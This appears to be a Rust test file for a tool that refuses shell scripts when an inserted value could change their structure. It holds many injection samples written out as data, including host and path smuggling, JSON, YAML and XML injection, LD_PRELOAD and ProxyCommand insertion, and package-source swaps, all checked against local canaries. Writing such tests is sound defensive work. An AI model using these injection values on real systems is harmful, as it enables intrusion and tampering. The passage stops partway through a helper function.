//! A value stays the part of the author's text in which it stands: the path behind a host, the text in a JSON string, one field of
//! a record, one line of a list, the version behind a package's name.
//!
//! Each attack acts when its value stands in the script as one quoted word, with real programs, and is refused.

#[path = "common/acting.rs"]
mod acting;
#[path = "common/template.rs"]
mod template;

use acting::{acts, all_act_and_are_refused, all_are_placeable, is_refused, judged};
use cycod_shell::{Proof, Shell};
use proptest::prelude::*;

#[track_caller]
fn check(attacks: &[(&str, &str)]) {
    let attacks: Vec<_> = attacks.iter().map(|(script, value)| (Shell::Bash, *script, *value)).collect();
    all_act_and_are_refused(&attacks);
}

#[track_caller]
fn all_pass(scripts: &[(&str, &str)]) {
    for (script, value) in scripts {
        let refused = is_refused(Shell::Bash, script, value);
        assert!(!refused, "{script}   {value}\n{:?}", judged(Shell::Bash, script).command);
    }
}

#[test]
fn an_address_keeps_its_host() {
    check(&[
        (r#"curl -sS "http://a.test{X}" 2>&1 | grep -q 'host: evil.test$' && touch PWNED"#, "@evil.test/"),
        (r#"curl -sS "http://a.test{X}" 2>&1 | grep -q 'host: a.test.evil.test$' && touch PWNED"#, ".evil.test/"),
        (r#"curl -sS "http://a.test:{X}/a" 2>&1 | grep -q 'host: evil.test$' && touch PWNED"#, "80@evil.test"),
        (r#"curl -sS "http://{X}.a.test/b" 2>&1 | grep -q 'host: evil.test$' && touch PWNED"#, "evil.test/"),
        (r#"curl -sS "http://u:{X}@a.test/b" 2>&1 | grep -q 'host: evil.test$' && touch PWNED"#, "p@evil.test/"),
        (r#"curl -sS "http://worker{X}/b" 2>&1 | grep -q 'host: worker.evil.test$' && touch PWNED"#, ".evil.test"),
        (
            r#"LC_ALL=C wget -O- -T1 -t1 "http://a.test{X}" 2>&1 | grep -q "address 'evil.test'" && touch PWNED"#,
            "@evil.test/",
        ),
        (
            r#"GIT_SSH_COMMAND='f() { for a; do [ "${a#*@}" = evil.test ] && touch PWNED; done; }; f' git ls-remote "ssh://a.test{X}""#,
            "@evil.test/r",
        ),
    ]);
    all_pass(&[
        (r#"curl "https://a.test{X}""#, "/v1/users?name=a@b"),
        (r#"curl "https://a.test{X}""#, ""),
        (r#"curl "https://a.test/{X}""#, "a@b"),
        (r#"curl "https://{X}/a""#, "evil.test:80"),
        (r#"curl "https://{X}{Y}""#, "evil.test"),
        (r#"curl "https://{X}""#, "evil.test/a"),
        (r#"curl "http://localhost:{X}/a""#, "8080"),
        (r#"curl "http://worker{X}/a""#, "3"),
        (r#"curl "http://localhost{X}""#, "/a"),
        (r#"curl "https://{X}.a.test/b""#, "eu-west-1"),
        (r#"curl "https://s3.{X}.a.test/b""#, "eu-west-1"),
        (r#"echo "https://a.test{X}""#, " is down"),
        (r#"git commit -m "see https://a.test{X}""#, " please"),
    ]);
}

#[test]
fn a_json_text_keeps_its_members() {
    check(&[
        (r#"echo "{\"admin\": false, \"name\": \"{X}\"}" | jq -e .admin && touch PWNED"#, r#"a","admin":true,"b":""#),
        (r#"jq -en --argjson a "{\"admin\": false, \"n\": {X}}" '$a.admin' && touch PWNED"#, r#"1,"admin":true"#),
        (r#"jq -e .admin <<< "{\"admin\": false, \"name\": \"{X}\"}" && touch PWNED"#, r#"a","admin":true,"b":""#),
        (
            "cat <<E | jq -e .[0].admin && touch PWNED\n[{\"admin\": false, \"name\": \"{X}\"}]\nE\n",
            r#"a","admin":true,"b":""#,
        ),
        (
            "cat > a.json <<E\n{\"admin\": false, \"name\": \"{X}\"}\nE\njq -e .admin a.json && touch PWNED",
            r#"a","admin":true,"b":""#,
        ),
    ]);
    for script in [
        r#"curl -d '{"text": "{X}"}' https://a.test"#,
        r#"curl --json '{"text": "{X}"}' https://a.test"#,
        r#"curl --data-raw 'payload={"text": "{X}"}' https://a.test"#,
        r#"kubectl patch deploy a -p '{"metadata":{"labels":{"a":"{X}"}}}'"#,
        r#"aws events put-events --entries '[{"Detail": "{X}"}]'"#,
        r#"gh api graphql --input - <<< '{"query": "query { a }", "variables": {"a": "{X}"}}'"#,
    ] {
        assert!(is_refused(Shell::Bash, script, r#"","a":""#), "{script}");
        assert!(is_refused(Shell::Bash, script, "\\"), "{script}");
        assert!(
            !is_refused(Shell::Bash, script, "it's {a: b}, [c]"),
            "{script}: {:?}",
            judged(Shell::Bash, script).command
        );
        let escaped = script.replace("{X}", "{X:jsonescaped}");
        assert!(!is_refused(Shell::Bash, &escaped, r#"say \"a\""#), "{script}");
    }
    all_pass(&[
        (r#"curl -d '{"a": {X}}' https://a.test"#, r#"{"b": [1, "c, d"]}"#),
        (r#"kubectl patch deploy a -p '{"spec":{"replicas":{X}}}'"#, "3"),
        (r#"echo "[{X}] done""#, r#"a "quoted", \text"#),
        (r#"echo "{X}: {}""#, r#"a "b""#),
        (r#"jq --arg a "{X}" '{"a": $a}'"#, r#"a "b""#),
        (r#"git commit -m "{X} {\"a\": 1}""#, r#""a""#),
    ]);
}

#[test]
fn a_yaml_document_keeps_its_keys() {
    check(&[
        ("cat > a.yaml <<E\nadmin: false\nname: {X}\nE\nyq -e .admin a.yaml && touch PWNED", "a\nadmin: true"),
        ("cat > a.yaml <<E\nname: \"{X}\"\nE\nyq -e .admin a.yaml && touch PWNED", "a\"\nadmin: true\nb: \""),
        ("cat > a.yml <<E\nname: '{X}'\nE\nyq -e .admin a.yml && touch PWNED", "a'\nadmin: true\nb: '"),
        ("cat > a.yaml <<E\nuser: {X}\nE\nyq -e .user.admin a.yaml && touch PWNED", "{admin: true}"),
        ("cat > a.yaml <<E\nuser: {name: {X}}\nE\nyq -e .user.admin a.yaml && touch PWNED", "a, admin: true"),
        ("cat > a.yaml <<E\nb: |\n  {X}\nE\nyq -e .admin a.yaml && touch PWNED", "a\nadmin: true"),
        (r#"echo "name: {X}" > a.yaml; yq -e .admin a.yaml && touch PWNED"#, "a\nadmin: true"),
    ]);
    let manifest = "kubectl apply -f - <<E\nkind: Pod\nmetadata:\n  name: {X}\nE\n";
    for value in ["a\nspec: {}", "{a: b}", "a: b", "a #b"] {
        assert!(is_refused(Shell::Bash, manifest, value), "{value}");
    }
    for list in [
        "command: [\"sh\", \"-c\", \"echo {X}\"]",
        "command: [/bin/bash, -ec, '{X}']",
        "command: [sh]\nargs: [\"-c\", \"{X}\"]",
        "command:\n- sh\n- -c\n- echo '{X}'",
        "command:\n  - /bin/sh\n  - \"-c\"\n  - |\n    cd /srv\n    echo {X}",
        "args:\n- -c\n- \"{X}\"",
        "- name: a\n  command: [\"bash\", \"-lc\", \"run --note={X}\"]",
    ] {
        for script in [
            format!("kubectl apply -f - <<E\nkind: Pod\n{list}\nE\n"),
            format!("cat > a.yaml <<E\nkind: Pod\n{list}\nE\nkubectl apply -f a.yaml"),
        ] {
            assert!(is_refused(Shell::Bash, &script, "a"), "{script}");
        }
    }
    all_pass(&[
        ("kubectl apply -f - <<E\ncommand: [\"sh\", \"-c\", \"echo \\$1\", \"_\", \"{X}\"]\nE\n", "a b"),
        (
            "kubectl apply -f - <<E\ncommand:\n- sh\n- -c\n- echo \\$NOTE\nenv:\n- name: NOTE\n  value: \"{X}\"\nE\n",
            "a b",
        ),
        ("kubectl apply -f - <<E\ncommand: [\"grep\", \"-c\", \"{X}\"]\nE\n", "a b"),
        ("kubectl apply -f - <<E\nargs: [\"--note\", \"{X}\"]\nE\n", "a b"),
        (manifest, "web-1.2"),
        ("kubectl apply -f - <<E\nimage: {X}\nE\n", "registry.test:5000/a/b:1.2@sha256:00"),
        ("kubectl apply -f - <<E\nnote: \"{X}\"\nE\n", "it's a: b #c\nd"),
        ("kubectl apply -f - <<< \"{X}\"", "kind: Pod\nmetadata: {}"),
        ("cat > notes.md <<E\nname: {X}\nE\n", "a\nb: c"),
        ("git commit -F - <<E\nFix: {X}\nE\n", "a\n\nb: c"),
    ]);
}

#[test]
fn a_record_keeps_its_fields() {
    let server = r#"python3 -c 'import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); open("port", "w").write(str(s.getsockname()[1]))
s.settimeout(9); c = s.accept()[0]; c.settimeout(1); d = b""
try:
  while True: d += c.recv(4096) or 1/0
except Exception: pass
c.send(b"HTTP/1.0 200 a\r\n\r\n"); b"leaked" in d and open("PWNED", "w")' & while ! [ -s port ]; do sleep 0.1; done; "#;
    let form =
        format!(r#"echo "A: leaked" > f; {server}curl -sS -m5 -F "a={{X}}" "http://127.0.0.1:$(cat port)/"; wait"#);
    check(&[
        (&form, "x;headers=@f"),
        (r#"mkdir a b; echo a > a/.key; rsync -a --exclude .key --exclude "{X}" a/ b/; mv b/.key PWNED"#, "!"),
        (r#"mkdir a b; echo a > a/.key; rsync -a --exclude "{X}" --exclude .key a/ b/; mv b/.key PWNED"#, "+ .key"),
        (
            r#"mkdir a; cd a; echo a > k.key; echo b > b; zip -q -r ../o.zip b -x "*.txt" "{X}" k.key; cd ..; unzip -q o.zip && mv k.key PWNED"#,
            "@",
        ),
    ]);
    for (script, value) in [
        (r#"docker build --attest "type=sbom,generator={X}" ."#, "evil"),
        (r#"docker build --sbom "{X}" ."#, "generator=evil"),
        (r#"docker build --output "{X}" ."#, "type=registry,name=evil"),
        (r#"docker build --secret "id={X},src=a" ."#, "a,src=b"),
        (r#"docker build --build-context "{X}" ."#, "alpine=docker-image://evil"),
        (r#"gcloud run deploy a --set-env-vars "A={X}""#, "a,NODE_OPTIONS=--require=b"),
        (r#"gcloud run deploy a --set-env-vars "{X}""#, "LD_PRELOAD=a"),
        (r#"aws lambda update-function-configuration --environment "Variables={A={X}}""#, "a,LD_PRELOAD=b"),
        (r#"aws ec2 create-tags --tags "Key=a,Value={X}""#, "a,Key=b"),
        (r#"kubectl set env deploy/a "{X}""#, "LD_PRELOAD=a"),
        (r#"heroku config:set "{X}""#, "LD_PRELOAD=a"),
        (r#"gh api graphql -f query="query { a(b: \"{X}\") }""#, "a"),
        (r#"gh api graphql -f "{X}""#, "query=mutation { a }"),
        (r#"gh codespace cp -e "remote:{X}" b"#, "$(a)"),
        (r#"gh extension exec "{X}""#, "a"),
        (r#"yq eval "{X}" f"#, r#"load("a")"#),
        (r#"mysqladmin "{X}""#, "shutdown"),
    ] {
        assert!(is_refused(Shell::Bash, script, value), "{script}");
    }
    all_pass(&[
        (r#"curl -F "a={X}" https://a.test"#, "a, b (c)"),
        (r#"rsync -a --exclude "{X}" a b"#, "*.key"),
        (r#"rsync -a --filter="- {X}" a b"#, "*.key"),
        (r#"zip -r a.zip . -x "{X}""#, "*.key"),
        (r#"docker build --output "type=local,dest={X}" ."#, "out"),
        (r#"docker build -o "{X}" ."#, "out"),
        (r#"docker build --label "a={X}" ."#, "a, b"),
        (r#"docker build --build-context "a={X}" ."#, "../a"),
        (r#"gcloud run deploy a --set-env-vars "A={X}""#, "a b"),
        (r#"aws ec2 create-tags --tags "Key=a,Value={X}""#, "a b"),
        (r#"kubectl set env deploy/a A="{X}""#, "a b"),
        (r#"heroku config:set A="{X}" -a app"#, "a b"),
        (r#"gh api graphql -f query='query { a }' -f owner="{X}""#, "a"),
    ]);
}

#[test]
fn an_address_keeps_its_path() {
    let curl = r#"curl -sS -o /dev/null -w '%{url_effective}'"#;
    let leaves = format!(r#"{curl} "http://localhost:1/a/{{X}}" 2>/dev/null | grep -q '1/admin' && touch PWNED"#);
    let base = format!(r#"B=http://localhost:1/a; {curl} "$B/b/{{X}}" 2>/dev/null | grep -q '1/admin' && touch PWNED"#);
    let adds = format!(r#"{curl} "http://localhost:1/?a={{X}}&b=1" 2>/dev/null | grep -q 'admin=1' && touch PWNED"#);
    let ends = format!(r#"{curl} "http://localhost:1/{{X}}/b" 2>/dev/null | grep -q '1/a?c=/b' && touch PWNED"#);
    let several = format!(r#"{curl} "http://localhost:1/{{X}}" 2>/dev/null | grep -q admin && touch PWNED"#);
    check(&[
        (&leaves, "../admin"),
        (&base, "../../admin"),
        (&adds, "x&admin=1"),
        (&ends, "a?c="),
        (&several, "{a,admin}"),
        (
            r#"psql "postgres://u:p@db.test/{X}" -c 'select 1' 2>&1 | grep -q evil.test && touch PWNED"#,
            "a?host=evil.test",
        ),
        (r#"psql "host=db.test dbname={X}" -c 'select 1' 2>&1 | grep -q evil.test && touch PWNED"#, "a host=evil.test"),
    ]);
    for (script, value) in [
        (r#"curl "https://a.test/a/{X}""#, "%2e%2E/admin"),
        (r#"curl "https://a.test/a/{X}""#, "b/..%2fadmin"),
        (r#"curl "https://a.test/a/{X}$name""#, "."),
        (r#"curl "$BASE/a/{X}""#, "../admin"),
        (r#"curl "https://a.test/{X}/b""#, "a#"),
        (r#"curl "https://a.test?b={X}""#, "1&c=2"),
        (r#"gh api "repos/{X}/issues""#, "../user"),
        (r#"gh api "repos/{X}/issues""#, "a/b?c="),
        (r#"kubectl get --raw "/api/v1/namespaces/{X}/pods""#, "../nodes"),
        (r#"curl -d "a={X}&b=2" https://a.test"#, "1&b=3"),
        (r#"curl --data-raw "text={X}" https://a.test"#, "1&as_admin=true"),
        (r#"wget --post-data "a={X}" https://a.test"#, "1&b=3"),
        (r#"curl -b "a={X}" https://a.test"#, "1; b=2"),
    ] {
        assert!(is_refused(Shell::Bash, script, value), "{script}");
    }
    all_pass(&[
        (r#"curl "https://a.test/repos/{X}/issues""#, "owner/name"),
        (r#"curl "https://a.test/a/{X}""#, "b/c.d?e=f&g=h#i"),
        (r#"curl "https://a.test/a/{X}""#, "v1..v2"),
        (r#"curl "https://a.test/{X}""#, "../a"),
        (r#"curl "https://a.test/?{X}""#, "a=b&c=d"),
        (r#"curl "https://a.test/?q={X}""#, "a b/c?d"),
        (r##"curl "https://a.test/#{X}""##, "a&b"),
        (r#"curl -d "{X}" https://a.test"#, "a=b&c=d"),
        (r#"curl -d '{"a": "{X}"}' https://a.test"#, "b & c"),
        (r#"curl --data-urlencode "a={X}" https://a.test"#, "b & c"),
        (r#"curl --form-string "a={X}" https://a.test"#, "b & c"),
        (r#"aws s3 cp a "s3://b/c/{X}""#, "d?e#f"),
        (r#"git commit -m "see https://a.test/b/{X} again""#, "why?"),
        (r#"git clone "https://a.test/{X}.git""#, "a/b"),
        (r#"psql "postgres://a.test/{X}""#, "b"),
        (r#"echo "https://a.test/b/{X}""#, "../c"),
    ]);
}

#[test]
fn a_document_keeps_its_elements() {
    let has_admin =
        r#"python3 -c 'import xml.etree.ElementTree as E; E.parse("a.xml").find(".//admin").text' && touch PWNED"#;
    let in_text = format!(r#"echo "<a><n>{{X}}</n></a>" > a.xml; {has_admin}"#);
    let by_format = format!(r#"printf '<a><n>%s</n></a>\n' "{{X}}" > a.xml; {has_admin}"#);
    let in_document = format!("cat > a.xml <<E\n<?xml version=\"1.0\"?>\n<a>\n<n b=\"{{X}}\"/>\n</a>\nE\n{has_admin}");
    let in_comment = format!(r#"echo "<a><!-- {{X}} --><n/></a>" > a.xml; {has_admin}"#);
    let in_section = format!(r#"echo "<a><![CDATA[{{X}}]]></a>" > a.xml; {has_admin}"#);
    let by_tee = format!(r#"echo "<a>{{X}}</a>" | tee a.xml > /dev/null; {has_admin}"#);
    check(&[
        (&in_text, "b</n><admin/><n>"),
        (&by_format, "b</n><admin/><n>"),
        (&in_document, "\"><admin/></n><n c=\""),
        (&in_comment, "--><admin/><!--"),
        (&in_section, "]]><admin/><![CDATA["),
        (&by_tee, "<admin/>"),
        (
            r#"python3 - "<a><n>{X}</n></a>" <<< 'import sys, xml.etree.ElementTree as E; E.fromstring(sys.argv[1]).find("admin").text' && touch PWNED"#,
            "b</n><admin/><n>",
        ),
        (
            r#"echo "<a><n>{X}</n></a>" | python3 -c 'import sys, xml.etree.ElementTree as E; E.parse(sys.stdin).find("admin").text' && touch PWNED"#,
            "b</n><admin/><n>",
        ),
    ]);
    for (script, value) in [
        (r#"curl -d "<a>{X}</a>" https://a.test"#, "</a><b>"),
        (r#"echo "<h1>{X}</h1>" > index.html"#, "<script>"),
        (r#"echo "Hello {X}" >> index.html"#, "<script>"),
        (r#"echo "<a href='{X}'>" > index.html"#, "' onclick='a"),
        (r#"echo "<p onclick=\"a('{X}')\">" > index.html"#, "');b('"),
        (r#"echo "<script>let a = '{X}'</script>" > index.html"#, "';b();'"),
    ] {
        assert!(is_refused(Shell::Bash, script, value), "{script}");
    }
    all_pass(&[
        (r#"echo "<a>{X}</a>" > a.xml"#, "it's \"a\" & b > c"),
        (r#"echo "<a b=\"{X}\"/>" > a.xml"#, "https://a.test/?b=c&d=e"),
        (r#"echo "<a><![CDATA[{X}]]></a>" > a.xml"#, "<b>c</b>"),
        (r#"echo "{X}" > a.html"#, "<p>a</p>"),
        (r#"echo "<script>let a = '{X}'</script>" > index.html"#, "a-1.2"),
        (r##"echo "# {X}" > a.md"##, "<b>"),
        (r#"git commit -m "fix: {X}""#, "<b>"),
        (r#"echo "a < {X}""#, "<b>"),
    ]);
}

#[test]
fn a_table_keeps_its_cells() {
    let has_admin =
        "sqlite3 :memory: -cmd '.mode csv' '.import a.csv t' 'select * from t' | grep -q ^2,b,admin && touch PWNED";
    let in_line = format!(r#"echo "1,{{X}},user" > a.csv; {has_admin}"#);
    let by_format = format!(r#"echo id,a,b > a.csv; printf '%s,%s,%s\n' 1 "{{X}}" user >> a.csv; {has_admin}"#);
    let in_quotes = format!(r#"printf '1,"%s",user\n' "{{X}}" > a.csv; {has_admin}"#);
    check(&[
        (&in_line, "a,user\n2,b,admin"),
        (&by_format, "a,user\n2,b,admin"),
        (&in_quotes, "a\",user\n2,b,admin\n3,\"c"),
    ]);
    all_pass(&[
        (r#"echo "1,{X},user" >> a.csv"#, "it's a: b"),
        (r#"printf '1,"%s",user\n' "{X}" >> a.csv"#, "a, b\nc"),
        (r#"echo "{X}" > a.csv"#, "a,b\nc,d"),
        (r#"echo "1,{X}""#, "a,b"),
        (r#"cp "{X}" a.csv"#, "a,b"),
    ]);
}

#[test]
fn settings_keep_their_lines() {
    check(&[
        (r#"echo "A={X}" >> app.env; grep -q ^B= app.env && touch PWNED"#, "a\nB=b"),
        (r#"echo "A={X}" | tee -a .env; grep -q ^B= .env && touch PWNED"#, "a\nB=b"),
        (
            r#"printf '[a]\nname=%s\n' "{X}" > a.ini; python3 -c 'import configparser; c = configparser.ConfigParser(); c.read("a.ini"); c["admin"]' && touch PWNED"#,
            "b\n[admin]",
        ),
        (
            r#"printf 'name = "%s"\n' "{X}" > a.toml; python3 -c 'import tomllib; tomllib.load(open("a.toml", "rb"))["admin"]' && touch PWNED"#,
            "b\"\nadmin = \"1",
        ),
        (
            "mkdir -p ~/.ssh; printf 'Host a\\n  HostName %s\\n' \"{X}\" >> ~/.ssh/config; ssh -G -F ~/.ssh/config a | grep -qi '^proxycommand touch' && touch PWNED",
            "b\n  ProxyCommand touch a",
        ),
        (r#"ssh-keygen -q -t ed25519 -N "" -f k -C "{X}"; grep -q ^evil k.pub && touch PWNED"#, "a\nevil"),
    ]);
    for (script, value) in [
        (r#"echo "A={X}" >> "$GITHUB_ENV""#, "a\nBASH_ENV=b"),
        (r#"echo "a={X}" >> "$GITHUB_OUTPUT""#, "a\nb=c"),
        (r#"echo "127.0.0.1 {X}" >> /etc/hosts"#, "a\n1.1.1.1 b"),
        (r#"echo "//a.test/:_authToken={X}" > .npmrc"#, "a\nnode-options=b"),
        ("cat > a.conf <<E\nserver { server_name {X}; }\nE\n", "a; } server {"),
        (r#"printf '[Service]\nExecStart=/bin/a %s\n' "{X}" > a.service"#, "b\nExecStartPre=c"),
    ] {
        assert!(is_refused(Shell::Bash, script, value), "{script}");
    }
    all_pass(&[
        (r#"echo "A={X}" >> .env"#, "it's a: b; c #d"),
        (r#"printf 'name = "%s"\n' "{X}" > a.toml"#, "it's a; b"),
        (r#"echo "{X}" > .env"#, "A=b\nC=d"),
        (r#"echo "- {X}" >> notes.md"#, "a\nb"),
        (r#"echo "{X}" >> ~/.ssh/authorized_keys"#, "ssh-ed25519 AAAA a"),
        (r#"echo "version: {X}" > out"#, "a\nb"),
        (r#"E=$(openssl rand -hex 8); printf 'a<<%s\n%s\n%s\n' "$E" "{X}" "$E" >> "$GITHUB_OUTPUT""#, "a\nb"),
        (r#"cp "{X}" .env"#, "a"),
    ]);
}

#[test]
fn a_name_is_one_name() {
    check(&[
        (
            r#"openssl req -x509 -newkey rsa:2048 -nodes -keyout k -subj "/CN={X}" 2>/dev/null | openssl x509 -noout -subject | grep -q 'O *= *evil' && touch PWNED"#,
            "a/O=evil",
        ),
        (
            r#"openssl req -x509 -newkey rsa:2048 -nodes -keyout k -subj /CN=a -addext "subjectAltName=DNS:{X}" 2>/dev/null | openssl x509 -noout -text | grep -q DNS:evil && touch PWNED"#,
            "a,DNS:evil",
        ),
        (
            r#"echo a > a; tar -cf a.tar --transform "s/b/{X}/" a; tar -tf a.tar | grep -q evil && touch PWNED"#,
            "c/;s/a/evil",
        ),
        (r#"echo leaked > f; kubectl config view -o "{X}" | grep -q leaked && touch PWNED"#, "go-template-file=f"),
    ]);
    assert!(is_refused(Shell::Bash, r#"systemctl restart "app-{X}""#, "*"));
    assert!(is_refused(Shell::Bash, r#"aws dynamodb scan --table-name a --filter-expression "b = {X}""#, ":c OR d"));
    all_pass(&[
        (r#"openssl req -new -key k -subj "/CN={X}""#, "a.test"),
        (r#"openssl req -new -key k -subj "{X}""#, "/CN=a/O=b"),
        (r#"tar -czf a.tgz --transform "s,^,app-{X}/," dist"#, "1.2.3"),
        (r#"kubectl get pods -o "{X}""#, "json"),
        (r#"kubectl get pods -o "jsonpath={X}""#, "{.items}"),
        (r#"systemctl restart "app@{X}""#, "a-1"),
    ]);
}

/// A server that makes the canary when a request has a second cookie, or a second parameter of its type.
const HEADERS: &str = r#"printf 'import http.server as h, http.cookies as c\nclass H(h.BaseHTTPRequestHandler):\n def do_GET(s):\n  if "b" in c.SimpleCookie(s.headers["Cookie"] or "") or s.headers.get_param("b") is not None: open("PWNED", "w")\n  s.send_response(200)\n  s.end_headers()\nv = h.HTTPServer(("127.0.0.1", 0), H)\nopen("port", "w").write(str(v.server_port))\nv.handle_request()\n' > s.py; python3 s.py & until [ -s port ]; do sleep 0.1; done; p=$(cat port); "#;

#[test]
fn a_header_keeps_its_parameters() {
    let attack = |script: &str| format!("{HEADERS}{script}; wait");
    let scripts = [
        (r#"curl -s -H "Cookie: a={X}" "http://127.0.0.1:$p/""#, "1; b=2"),
        (r#"curl -s --header "cookie: c=1; a={X}" "http://127.0.0.1:$p/""#, "1; b=2"),
        (r#"curl -s -H "Content-Type: text/plain; a={X}" "http://127.0.0.1:$p/""#, "1; b=2"),
        (r#"curl -s -H "Content-Type: text/plain; a=\"{X}\"" "http://127.0.0.1:$p/""#, "\"; b=\"2"),
        (r#"wget -qO- --header "Cookie: a={X}" "http://127.0.0.1:$p/""#, "1; b=2"),
        (r#"curl -s -b "a={X}" "http://127.0.0.1:$p/""#, "1; b=2"),
    ];
    let attacks: Vec<(String, &str)> = scripts.iter().map(|(script, value)| (attack(script), *value)).collect();
    let attacks: Vec<(&str, &str)> = attacks.iter().map(|(script, value)| (script.as_str(), *value)).collect();
    check(&attacks);
    all_pass(&[
        (r#"curl -H "Cookie: {X}" https://a.test"#, "a=1; b=2"),
        (r#"curl -H "Cookie: a={X}" https://a.test"#, "1,2 3"),
        (r#"curl -H "Authorization: Bearer {X}" https://a.test"#, "a=b;c"),
        (r#"curl -H "X-Note: {X}" https://a.test"#, "a; b"),
        (r#"curl -H "X-Note: see {X}" https://a.test"#, "a; b=c"),
    ]);
}

#[test]
fn a_named_value_is_pasted_into_sql_where_it_has_no_quotes() {
    for script in [
        r#"psql -v id="{X}" -c 'SELECT :id'"#,
        r#"psql -c 'SELECT * FROM a WHERE id = :id' -v id="{X}" db"#,
        r#"psql --set=id="{X}" -c 'SELECT :id'"#,
        r#"psql --variable id="{X}" -c 'SELECT :id'"#,
        "psql -v id=\"{X}\" <<'E'\nSELECT * FROM a WHERE id = :id;\nE",
        r#"psql -v id="{X}" -v n=1 -c "SELECT 'a' WHERE :id = 1""#,
        r#"x="id={X}"; psql -v "$x" -c 'SELECT :id'"#,
        r#"sudo -u postgres psql -v id="{X}" -c 'SELECT :id'"#,
        r#"psql -v t="{X}" -c 'DROP TABLE :t'"#,
        r#"psql -v id="{X}" -c "SELECT :id, :'id'""#,
    ] {
        assert!(is_refused(Shell::Bash, script, "a"), "{script}");
    }
    all_pass(&[
        (r#"psql -v id="{X}" -c "SELECT :'id'""#, "a"),
        (r#"psql -v id="{X}" -c 'SELECT :"id"'"#, "a"),
        ("psql -v id=\"{X}\" <<'E'\nSELECT * FROM a WHERE id = :'id';\nE", "a"),
        (r#"psql -v id="{X}" -c "SELECT a::id""#, "a"),
        (r#"psql -v id="{X}" -c "SELECT ':id'""#, "a"),
        (r#"psql -v id="{X}" -c 'SELECT :idx'"#, "a"),
        (r#"psql -v id="{X}" -f q.sql"#, "a"),
    ]);
}

#[test]
fn a_line_stays_one() {
    check(&[
        (
            r#"printf 'protocol=https\nhost=a.test\npath=%s\n\n' "{X}" | git -c credential.helper='!f() { grep -q ^host=evil.test && touch "$OLDPWD/PWNED"; }; cd .; f' credential approve"#,
            "a\nhost=evil.test\nusername=u\npassword=p",
        ),
        (r#"S=secret; export S; echo "{X}" | envsubst | grep -q secret && touch PWNED"#, "$S"),
    ]);
    for (script, value) in [
        (r#"echo "root:{X}" | chpasswd"#, "a\nother:b"),
        (r#"printf 'To: a@b.test\nSubject: %s\n\nText\n' "{X}" | sendmail -t"#, "a\nBcc: c@d.test"),
        (r#"printf 'SET a %s\r\n' "{X}" | nc localhost 6379"#, "b\nFLUSHALL"),
        (r#"mail -s "{X}" a@b.test < f"#, "a\nBcc: c@d.test"),
        (r#"ab -H "A: {X}" https://a.test/"#, "1\r\nB: 2"),
        (
            r#"printf '{"index":{}}\n{"name":"%s"}\n' "{X}" | curl --data-binary @- https://a.test"#,
            "\"}\n{\"delete\":{}}",
        ),
        (r#"echo "{X}" | terraform console"#, r#"file("a")"#),
        (r#"echo "{X}" | nft -f -"#, "flush ruleset"),
        (r#"echo "{X}" | iptables-restore"#, "*filter"),
        (r#"echo "{X}" | nsupdate"#, "send"),
    ] {
        assert!(is_refused(Shell::Bash, script, value), "{script}");
    }
    all_pass(&[
        (r#"echo "{X}" | nc localhost 9000"#, "a\nb"),
        (r#"printf 'a:%s|c\n' "{X}" | nc -u localhost 8125"#, "1"),
        (r#"echo "root:{X}" | chpasswd"#, "p:a ss$"),
        ("sendmail -t <<E\nTo: a@b.test\nSubject: a\n\n{X}\nE\n", "a\nb"),
        ("sendmail -t <<E\nTo: a@b.test\nSubject: {X}\n\nb\nE\n", "a: b"),
    ]);
}

#[test]
fn a_name_stays_the_one_that_the_author_wrote() {
    check(&[
        (
            r#"mkdir e; echo '{"name":"a","version":"1.0.0","scripts":{"install":"touch $INIT_CWD/PWNED"}}' > e/package.json; npm install --offline "a@{X}""#,
            "file:e",
        ),
        (r#"apt-get -s install "{X}" | grep -q ^Remv && touch PWNED"#, "nano-"),
        (
            r#"git init -q --bare r; git init -q w; cd w; git commit -q --allow-empty -m a; git branch -M main; git push -q ../r main main:b; git push ../r "{X}"; git --git-dir ../r rev-parse -q --verify b || touch ../PWNED"#,
            ":b",
        ),
        (
            r#"git init -q --bare r; git init -q w; cd w; git commit -q --allow-empty -m a; git branch -M a; git push ../r "{X}"; git --git-dir ../r rev-parse -q --verify main && touch ../PWNED"#,
            "a:main",
        ),
        (
            r#"git init -q r; cd r; git commit -q --allow-empty -m a; git branch -M main; git branch evil; cd ..; git init -q w; cd w; git commit -q --allow-empty -m z; git branch -M a; git branch main; old=$(git rev-parse main); git fetch ../r "{X}"; [ "$old" = "$(git rev-parse main)" ] || touch ../PWNED"#,
            "+evil:main",
        ),
    ]);
    for (script, value) in [
        (r#"npm install "@types/{X}""#, "a@https://evil.test/a.tgz"),
        (r#"pnpm add "a@{X}""#, "npm:evil"),
        (r#"yarn add "a@{X}""#, "evil/a"),
        (r#"npm install "github-api@{X}""#, "evil/a"),
        (r#"git pull origin "{X}""#, "+evil:main"),
        (r#"apt-get remove -y "{X}""#, "?installed"),
    ] {
        assert!(is_refused(Shell::Bash, script, value), "{script}");
    }
    all_pass(&[
        (r#"npm install "a@{X}""#, "^1.0.0"),
        (r#"npm install "@types/{X}""#, "node@20"),
        (r#"npm install "./packages/{X}""#, "a/b"),
        (r#"npm install "{X}""#, "github:a/b"),
        (r#"npm install "github:{X}""#, "a/b"),
        (r#"apt-get install "{X}""#, "g++"),
        (r#"apt search "{X}""#, "^lib.*-"),
        (r#"git push origin "{X}""#, "feature/a"),
        (r#"git push origin "HEAD:{X}""#, "refs/heads/a"),
        (r#"git fetch origin "pull/{X}/head""#, "12"),
    ]);
}

/// What stands behind the `--` of a task's runner is read by the task's program.
#[test]
fn a_task_reads_options() {
    for script in [
        r#"pnpm run a -- "{X}""#,
        r#"pnpm run a "{X}""#,
        r#"pnpm vitest "{X}""#,
        r#"yarn a "{X}""#,
        r#"yarn run a -- "{X}""#,
        r#"bun run a -- "{X}""#,
        r#"bun run a "{X}""#,
    ] {
        assert!(is_refused(Shell::Bash, script, "-x"), "{script}");
        assert!(!is_refused(Shell::Bash, script, "x"), "{script}: {:?}", judged(Shell::Bash, script).command);
    }
    for script in [r#"pnpm run a -- -- "{X}""#, r#"bun run a -- -- "{X}""#, r#"yarn run a -- -- "{X}""#] {
        assert!(!is_refused(Shell::Bash, script, "-x"), "{script}: {:?}", judged(Shell::Bash, script).command);
    }
}

/// A JSON text of the author's with one place for a value, as text around it.
fn json_around() -> impl Strategy<Value = (String, String, bool)> {
    let leaf = (any::<bool>()).prop_map(|is_string| {
        if is_string { ("\"".to_owned(), "\"".to_owned(), true) } else { (String::new(), String::new(), false) }
    });
    leaf.prop_recursive(4, 8, 1, |inner| {
